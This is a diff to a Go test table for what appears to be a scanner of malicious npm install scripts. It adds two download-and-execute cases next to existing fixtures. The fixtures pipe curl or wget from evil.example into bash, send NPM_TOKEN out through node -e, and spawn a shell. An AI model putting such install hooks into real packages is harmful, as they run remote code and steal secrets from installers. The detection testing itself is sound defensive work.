@@ -328,6 +328,8 @@ func TestInstallScriptVariants(t *testing.T) {
 	}{
 		{"wget to bash", map[string]string{"preinstall": "wget -qO- http://evil.example/i | bash"}, nil, osv.SeverityCritical, "package.json", 0, "pipes a download into an interpreter"},
 		{"subshell download", map[string]string{"install": `bash -c "$(curl -fsSL https://evil.example/i.sh)"`}, nil, osv.SeverityCritical, "package.json", 0, "pipes a download into an interpreter"},
+		{"download then run", map[string]string{"postinstall": "curl -fsSLo /tmp/x https://evil.example/x && chmod +x /tmp/x && /tmp/x"}, nil, osv.SeverityCritical, "package.json", 0, "downloads a file and runs it"},
+		{"wget then sh", map[string]string{"preinstall": "wget -q https://evil.example/s.sh; sh s.sh"}, nil, osv.SeverityCritical, "package.json", 0, "downloads a file and runs it"},
 		{"inline node", map[string]string{"postinstall": `node -e "require(\"https\").get('https://evil.example/' + process.env.NPM_TOKEN)"`}, nil, osv.SeverityCritical, "package.json", 0, "reads secrets from the environment"},
 		{"inline node network", map[string]string{"postinstall": `node -e "require('https').get('https://evil.example/x')"`}, nil, osv.SeverityHigh, "package.json", 0, "makes network requests (requires https, in node -e)"},
 		{"npm run chain", map[string]string{"postinstall": "npm run setup", "setup": "node tools/setup"}, map[string]string{"tools/setup.js": "\n\nrequire('child_process').spawn('sh')\n"}, osv.SeverityHigh, "tools/setup.js", 3, "postinstall: spawns processes"},
